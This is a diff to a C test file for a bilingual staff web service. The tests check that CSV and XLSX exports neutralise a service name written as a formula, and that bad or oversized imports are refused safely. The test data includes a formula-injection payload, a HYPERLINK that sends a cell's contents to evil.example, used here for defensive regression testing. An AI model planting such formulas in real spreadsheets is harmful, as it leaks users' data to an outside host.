@@ -12,6 +12,7 @@
 #include <string.h>
 #include <unistd.h>
 #include "testsrv.h"
+#include "xlsxread.h"
 #include "equality/equality.h"
 
 static testsrv srv;
@@ -218,65 +219,108 @@ static void csv_matches_the_table(void **state)
     assert_int_equal(nosv, 1);
     assert_true(fam_raasepori);
     tresp_free(&r);
+    /* a service named like a formula: text with an apostrophe, the marks still numbers */
+    db *d = testsrv_db(&srv);
+    db_param evil[] = {DB_TEXT("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")")};
+    testdb_exec(d, "UPDATE services SET name_fi = $1 WHERE code = 'diab'", 1, evil);
+    http_get(&c, "/fi/staff/equal-access.csv", NULL, &r);
+    testdb_exec(d, "UPDATE services SET name_fi = 'Diabeteshoitaja' WHERE code = 'diab'", 0, NULL);
+    db_close(d);
+    assert_int_equal(r.status, 200);
+    p = r.body.data + 3;
+    assert_int_equal(csv_record(&p, f, 10), 8);
+    int evil_rows = 0;
+    missing = 0;
+    while (*p) {
+        assert_int_equal(csv_record(&p, f, 10), 8);
+        assert_true(f[0][0] != '=');
+        missing += atoi(f[5]);
+        if (strcmp(f[0], "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")") == 0) {
+            evil_rows++;
+            assert_true(strcmp(f[5], "0") == 0 || strcmp(f[5], "1") == 0);
+        }
+    }
+    assert_int_equal(evil_rows, 3);
+    assert_int_equal(missing, 5);
+    tresp_free(&r);
     tclient_free(&c);
 }
 
-static char *run_unzip(const char *file, const char *member)
+static const char *cell_text(json_t *book, size_t sheet, size_t y, size_t x)
 {
-    char cmd[512];
-    snprintf(cmd, sizeof cmd, "unzip -p '%s' '%s'", file, member);
-    FILE *f = popen(cmd, "r");
-    assert_non_null(f);
-    buf b = BUF_INIT;
-    char chunk[4096];
-    size_t n;
-    while ((n = fread(chunk, 1, sizeof chunk, f)) > 0) buf_append(&b, chunk, n);
-    assert_int_equal(pclose(f), 0);
-    buf_putc(&b, '\0');
-    return buf_detach(&b, NULL);
+    json_t *v = xlsx_cell(book, sheet, y, x);
+    assert_true(json_is_string(v));
+    return json_string_value(v);
+}
+
+static long long cell_number(json_t *book, size_t sheet, size_t y, size_t x)
+{
+    json_t *v = xlsx_cell(book, sheet, y, x);
+    assert_true(json_is_integer(v));
+    return json_integer_value(v);
+}
+
+static json_t *download_xlsx(tclient *c)
+{
+    tresp r;
+    http_get(c, "/fi/staff/equal-access.xlsx", NULL, &r);
+    assert_int_equal(r.status, 200);
+    assert_memory_equal(r.body.data, "PK", 2);
+    json_t *book = xlsx_read(r.body.data, r.body.len);
+    tresp_free(&r);
+    return book;
 }
 
 static void xlsx_has_the_same_numbers(void **state)
 {
     (void)state;
-    if (system("command -v unzip >/dev/null 2>&1") != 0) skip();
     tclient c;
     tclient_init(&c, &srv);
     staff_login(&c, "fi");
-    tresp r;
-    http_get(&c, "/fi/staff/equal-access.xlsx", NULL, &r);
-    assert_int_equal(r.status, 200);
-    assert_true(r.body.len > 100);
-    assert_memory_equal(r.body.data, "PK", 2);
-    char path[] = "/tmp/kohtaamo-test-xlsx-XXXXXX";
-    int fd = mkstemp(path);
-    assert_true(fd >= 0);
-    assert_int_equal(write(fd, r.body.data, r.body.len), (ssize_t)r.body.len);
-    close(fd);
-    char *totals = run_unzip(path, "xl/worksheets/sheet2.xml");
-    char *cells = run_unzip(path, "xl/worksheets/sheet1.xml");
-    char *strings = run_unzip(path, "xl/sharedStrings.xml");
-    unlink(path);
-    /* Totals: missing 5, below 1, not in Swedish 1, ok 2, cells 9, in that order (column B) */
-    const char *want[5] = {"<c r=\"B2\"", "<c r=\"B3\"", "<c r=\"B4\"", "<c r=\"B5\"", "<c r=\"B6\""};
-    const char *vals[5] = {"<v>5</v>", "<v>1</v>", "<v>1</v>", "<v>2</v>", "<v>9</v>"};
-    for (int i = 0; i < 5; i++) {
-        const char *cpos = strstr(totals, want[i]);
-        assert_non_null(cpos);
-        const char *end = strstr(cpos, "</c>");
-        assert_non_null(end);
-        char one[128];
-        snprintf(one, sizeof one, "%.*s", (int)(end - cpos), cpos);
-        assert_non_null(strstr(one, vals[i]));
+    json_t *book = download_xlsx(&c);
+    json_t *sheets = json_object_get(book, "sheets");
+    assert_int_equal(json_array_size(sheets), 2);
+    /* Totals: missing 5, below 1, not in Swedish 1, ok 2, cells 9, in that order, as numbers */
+    assert_string_equal(cell_text(book, 1, 0, 1), "Soluja");
+    const long long totals[5] = {5, 1, 1, 2, 9};
+    for (size_t i = 0; i < 5; i++) {
+        assert_true(json_is_string(xlsx_cell(book, 1, i + 1, 0)));
+        assert_int_equal(cell_number(book, 1, i + 1, 1), totals[i]);
     }
-    assert_non_null(strstr(cells, "<c r=\"H10\""));   /* header + 9 rows */
-    assert_null(strstr(cells, "<c r=\"A11\""));
-    assert_non_null(strstr(strings, "Perheneuvola"));
-    assert_non_null(strstr(strings, "Ei ruotsiksi"));
-    free(totals);
-    free(cells);
-    free(strings);
-    tresp_free(&r);
+    /* the matrix: a header and 9 rows of 8 columns, the same as the CSV */
+    json_t *rows = json_object_get(json_array_get(sheets, 0), "rows");
+    assert_int_equal(json_array_size(rows), 10);
+    assert_string_equal(cell_text(book, 0, 0, 0), "Palvelu");
+    assert_string_equal(cell_text(book, 0, 0, 7), "Ei ruotsiksi");
+    bool fam_raasepori = false;
+    long long missing = 0;
+    for (size_t y = 1; y < 10; y++) {
+        assert_int_equal(json_array_size(json_array_get(rows, y)), 8);
+        missing += cell_number(book, 0, y, 5);
+        if (strcmp(cell_text(book, 0, y, 0), "Perheneuvola") == 0 && strcmp(cell_text(book, 0, y, 2), "710") == 0) {
+            fam_raasepori = true;
+            assert_string_equal(cell_text(book, 0, y, 3), "Paikan päällä ajanvarauksella");
+            assert_int_equal(cell_number(book, 0, y, 7), 1);
+        }
+    }
+    assert_true(fam_raasepori);
+    assert_int_equal(missing, 5);
+    for (size_t i = 0; i < 2; i++)
+        assert_int_equal(json_array_size(json_object_get(json_array_get(sheets, i), "formulas")), 0);
+    json_decref(book);
+    /* a service named like a formula is text in the workbook, never a formula */
+    db *d = testsrv_db(&srv);
+    db_param evil[] = {DB_TEXT("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")")};
+    testdb_exec(d, "UPDATE services SET name_fi = $1 WHERE code = 'diab'", 1, evil);
+    book = download_xlsx(&c);
+    testdb_exec(d, "UPDATE services SET name_fi = 'Diabeteshoitaja' WHERE code = 'diab'", 0, NULL);
+    db_close(d);
+    int seen = 0;
+    for (size_t y = 1; y < 10; y++)
+        if (strcmp(cell_text(book, 0, y, 0), "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")") == 0) seen++;
+    assert_int_equal(seen, 3);
+    assert_int_equal(json_array_size(json_object_get(json_array_get(json_object_get(book, "sheets"), 0), "formulas")), 0);
+    json_decref(book);
     tclient_free(&c);
 }
 
@@ -517,6 +561,95 @@ static void import_bad_files_store_nothing(void **state)
     tclient_free(&c);
 }
 
+/* The server's peak resident memory in MB (VmHWM of its /proc status). */
+static long server_peak_mb(void)
+{
+    char path[64], line[256];
+    snprintf(path, sizeof path, "/proc/%d/status", (int)srv.pid);
+    FILE *f = fopen(path, "r");
+    assert_non_null(f);
+    long kb = -1;
+    while (fgets(line, sizeof line, f))
+        if (sscanf(line, "VmHWM: %ld kB", &kb) == 1) break;
+    fclose(f);
+    assert_true(kb > 0);
+    return kb / 1024;
+}
+
+static void server_is_healthy(tclient *c)
+{
+    tresp r;
+    http_get(c, "/healthz", NULL, &r);
+    assert_int_equal(r.status, 200);
+    tresp_free(&r);
+}
+
+/* A staff upload with a number where text belongs used to crash the server
+ * (every resident disconnected); now the record is named in the report. */
+static void import_field_of_a_wrong_type_names_the_record(void **state)
+{
+    (void)state;
+    tclient c;
+    tclient_init(&c, &srv);
+    staff_login(&c, "fi");
+    char *tok = fetch_csrf(&c, "/fi/staff/equal-access/import");
+    int64_t points = scalar("SELECT COUNT(*) FROM service_points", NULL);
+    static const char DAYTO_NUMBER[] =
+        "{\"serviceChannels\": ["
+        " {\"id\": \"0a1b2c3d-0000-4000-8000-0000000000e1\", \"serviceChannelType\": \"ServiceLocation\","
+        "  \"serviceChannelNames\": [{\"language\": \"fi\", \"value\": \"Karjaan neuvola\", \"type\": \"Name\"}],"
+        "  \"addresses\": [{\"type\": \"Location\", \"streetAddress\": {\"municipality\": {\"code\": \"710\"}}}],"
+        "  \"serviceHours\": [{\"serviceHourType\": \"DaysOfTheWeek\", \"openingHour\": ["
+        "    {\"dayFrom\": \"Monday\", \"dayTo\": 5, \"from\": \"08:00\", \"to\": \"16:00\"}]}]}]}";
+    tresp r;
+    post_file(&c, "/fi/staff/equal-access/import", tok, "ptv.json", DAYTO_NUMBER, &r);
+    assert_int_equal(r.status, 400);
+    assert_true(body_has(&r, "Mitään ei tallennettu."));
+    assert_true(body_has(&r, "<td>Asiointikanava nro 1</td><td>0a1b2c3d-0000-4000-8000-0000000000e1</td>"
+                             "<td>Kentän pitäisi olla tekstiä. (serviceHours[0].openingHour[0].dayTo)</td>"));
+    tresp_free(&r);
+    server_is_healthy(&c);
+    /* in Swedish too */
+    tclient sv;
+    tclient_init(&sv, &srv);
+    staff_login(&sv, "sv");
+    char *tok_sv = fetch_csrf(&sv, "/sv/staff/equal-access/import");
+    post_file(&sv, "/sv/staff/equal-access/import", tok_sv, "ptv.json", DAYTO_NUMBER, &r);
+    assert_int_equal(r.status, 400);
+    assert_true(body_has(&r, "Fältet borde vara text. (serviceHours[0].openingHour[0].dayTo)"));
+    tresp_free(&r);
+    free(tok_sv);
+    tclient_free(&sv);
+    assert_int_equal(scalar("SELECT COUNT(*) FROM service_points", NULL), points);
+    free(tok);
+    tclient_free(&c);
+}
+
+/* A 16 KB file of 8,000 numbers peaked at 1.36 GB; now it is refused at once. */
+static void import_of_a_huge_list_is_bounded(void **state)
+{
+    (void)state;
+    tclient c;
+    tclient_init(&c, &srv);
+    staff_login(&c, "fi");
+    char *tok = fetch_csrf(&c, "/fi/staff/equal-access/import");
+    buf b = BUF_INIT;
+    buf_putc(&b, '[');
+    for (int i = 0; i < 8000; i++) buf_puts(&b, i ? ",1" : "1");
+    buf_putc(&b, ']');
+    tresp r;
+    post_file(&c, "/fi/staff/equal-access/import", tok, "ptv.json", b.data, &r);
+    buf_free(&b);
+    assert_int_equal(r.status, 400);
+    assert_true(body_has(&r, "Tiedostossa on yli 5000 palvelua. Tuo ne osissa."));
+    assert_true(body_has(&r, "Mitään ei tallennettu."));
+    tresp_free(&r);
+    server_is_healthy(&c);
+    assert_true(server_peak_mb() < 256);
+    free(tok);
+    tclient_free(&c);
+}
+
 /* The demo loader adds a standard where none is set and history that ends at
  * the offer as it stands, so the month-by-month count ends at the matrix's. */
 static void demo_loader_is_consistent_and_safe_twice(void **state)
@@ -563,6 +696,8 @@ int main(void)
         cmocka_unit_test(offer_edit_writes_history),
         cmocka_unit_test(import_good_file_twice),
         cmocka_unit_test(import_bad_files_store_nothing),
+        cmocka_unit_test(import_field_of_a_wrong_type_names_the_record),
+        cmocka_unit_test(import_of_a_huge_list_is_bounded),
         cmocka_unit_test(demo_loader_is_consistent_and_safe_twice),
     };
     return cmocka_run_group_tests(tests, setup, teardown);
